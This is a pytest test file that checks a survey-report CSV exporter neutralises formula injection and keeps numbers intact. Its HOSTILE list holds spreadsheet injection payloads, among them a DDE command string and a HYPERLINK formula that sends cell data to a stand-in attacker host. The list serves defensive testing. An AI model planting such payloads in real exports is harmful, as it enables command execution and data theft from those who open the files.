"""Exports: numbers stay numbers, and what a customer wrote never becomes a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from answered import config_in, people

from npsync.reports import make, wish
from npsync.reports.exporting import BOM, COLUMNS, csv_text, rows, safe
from store import open_store

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000\u2003@SUM(A1:A9)",
    "\x00\x0b=1+1",
    '"=1+1',
    'he said "=1"\r\n=2',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_as_a_formula(text):
    [_, [cell]] = csv.reader(io.StringIO(csv_text(["comment"], [[text]]), newline=""))
    assert cell in (text, f"'{text}")
    seen = "".join(sign for sign in cell if sign.isprintable() and not sign.isspace())
    assert seen[:1] not in tuple("=+-@＝＋－＠")
    assert cell[:1] not in tuple("\t\r\n")


def test_every_line_of_hostile_comments_is_one_row_of_the_file():
    found = list(csv.reader(io.StringIO(csv_text(["n", "comment"], enumerate(HOSTILE)), newline="")))
    assert [row[0] for row in found[1:]] == [str(n) for n in range(len(HOSTILE))]
    assert [row[1].removeprefix("'") for row in found[1:]] == HOSTILE


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (-33, "-33"),
        (Decimal("-14.68"), "-14.68"),
        (Decimal("1E+6"), "1000000"),
        (None, ""),
        ("plain", "plain"),
    ],
)
def test_numbers_stay_numbers(cell, text):
    assert safe(cell) == text


def test_the_mark_for_excel_is_only_there_when_asked_for():
    assert csv_text(["a"], [], bom=True).encode().startswith(b"\xef\xbb\xbf")
    assert not csv_text(["a"], []).startswith(BOM)


def test_a_report_as_one_table(tmp_path, sqlite_url):
    from answered import NOW

    config = config_in(tmp_path)
    store = open_store(config.store)
    people(store, {10: 50, 7: 33, 3: 17}, channel="=HYPERLINK(0)")
    made = make(config, store, wish(config, "relationship", today=NOW.date(), by="channel"), now=NOW)
    table = list(csv.DictReader(io.StringIO(csv_text(COLUMNS, rows(made)), newline="")))
    whole, group = table[0], table[-1]
    assert (whole["what"], whole["nps"], whole["margin"], whole["people"]) == ("whole", "33", "14.68", "100")
    assert (group["what"], group["name"], group["nps"]) == ("channel", "'=HYPERLINK(0)", "33")
    assert next(row["name"] for row in table if row["what"] == "month") == "2025-01"
